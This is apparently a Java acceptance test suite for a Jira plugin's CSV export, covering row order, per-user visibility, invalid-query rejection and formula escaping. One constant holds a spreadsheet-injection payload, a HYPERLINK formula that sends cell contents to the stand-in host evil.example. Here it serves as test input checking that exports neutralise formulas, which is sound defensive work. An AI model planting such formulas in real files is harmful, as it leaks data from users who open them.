package io.clearowner.acceptance.rest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.clearowner.acceptance.driver.Eventually;
import io.clearowner.acceptance.driver.JiraClient;
import io.clearowner.acceptance.driver.RunningSandbox;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Exports the whole list as CSV, as each user sees it, including a summary that is a formula. */
class CsvTest {
    private static final String CSV = "/rest/clear-owner/1.0/unclear/csv?jql=";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    private final JiraClient admin = JiraClient.loggedIn(RunningSandbox.shared(), "admin");
    private final JiraClient lee = JiraClient.loggedIn(RunningSandbox.shared(), "lee");

    @BeforeEach
    void awaitPendingReindexing() {
        Eventually.within(Duration.ofMinutes(1))
                .becomesTrue(
                        "the counts match the demo data",
                        () -> admin.unclear("resolution is EMPTY")
                                        .body()
                                        .at("/counts/unclear")
                                        .asInt()
                                == 101);
    }

    @Test
    void exportsEveryUnclearIssueInListOrder() {
        List<List<String>> rows = rows(admin, "resolution is EMPTY ORDER BY key", "");
        assertThat(rows).hasSize(102);
        assertThat(rows.get(0))
                .startsWith("Issue key", "Summary", "Project")
                .endsWith("Product Owner (user name)", "Delivery Owner (user name)", "Link")
                .hasSize(15);
        assertThat(keys(rows)).isEqualTo(listed(admin, "resolution is EMPTY ORDER BY key", "either"));
        assertThat(keys(rows(admin, "resolution is EMPTY ORDER BY key", "&role=vision")))
                .isEqualTo(listed(admin, "resolution is EMPTY ORDER BY key", "vision"))
                .hasSize(3);
    }

    @Test
    void exportsOnlyIssuesThatTheReaderSees() {
        List<String> keys = keys(rows(lee, "resolution is EMPTY ORDER BY key", ""));
        assertThat(keys)
                .isEqualTo(listed(lee, "resolution is EMPTY ORDER BY key", "either"))
                .hasSizeLessThan(101)
                .isNotEmpty();
    }

    @Test
    void escapesFormulas() {
        String key = admin.unclear("resolution is EMPTY and \"Execution Clarity\" = missing")
                .body()
                .at("/issues/0/key")
                .asText();
        String before = admin.get("/rest/api/2/issue/" + key)
                .body()
                .at("/fields/summary")
                .asText();
        try {
            assertThat(admin.put("/rest/api/2/issue/" + key, Map.of("fields", Map.of("summary", FORMULA)))
                            .status())
                    .isEqualTo(204);
            assertThat(rows(admin, "key = " + key, "").get(1).get(1)).isEqualTo("'" + FORMULA);
        } finally {
            admin.put("/rest/api/2/issue/" + key, Map.of("fields", Map.of("summary", before)));
        }
    }

    @Test
    void rejectsInvalidJql() {
        JiraClient.Response response = admin.get(CSV + JiraClient.encode("nonsense = 1"));
        assertThat(response.status()).isEqualTo(400);
        assertThat(response.body().at("/errors/0/field").asText()).isEqualTo("jql");
    }

    private static List<List<String>> rows(JiraClient viewer, String jql, String more) {
        JiraClient.Response response = viewer.get(CSV + JiraClient.encode(jql) + more);
        assertThat(response.status()).isEqualTo(200);
        assertThat(response.text()).startsWith("\uFEFF").endsWith("\r\n");
        return parse(response.text().substring(1));
    }

    private static List<String> keys(List<List<String>> rows) {
        return rows.stream().skip(1).map(row -> row.get(0)).toList();
    }

    private static List<String> listed(JiraClient viewer, String jql, String role) {
        List<String> keys = new ArrayList<>();
        for (int start = 0; ; start += 100) {
            JsonNode page = viewer.get("/rest/clear-owner/1.0/unclear?limit=100&start=" + start + "&role=" + role
                            + "&jql=" + JiraClient.encode(jql))
                    .body();
            page.get("issues").forEach(issue -> keys.add(issue.get("key").asText()));
            if (keys.size() >= page.get("total").asInt()) {
                return keys;
            }
        }
    }

    /** Parses CSV as RFC 4180 defines it. */
    private static List<List<String>> parse(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"') {
                if (quoted && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append(c);
                    i++;
                } else {
                    quoted = !quoted;
                }
            } else if (!quoted && (c == ',' || c == '\n')) {
                row.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    rows.add(row);
                    row = new ArrayList<>();
                }
            } else if (quoted || c != '\r') {
                cell.append(c);
            }
        }
        return rows;
    }
}
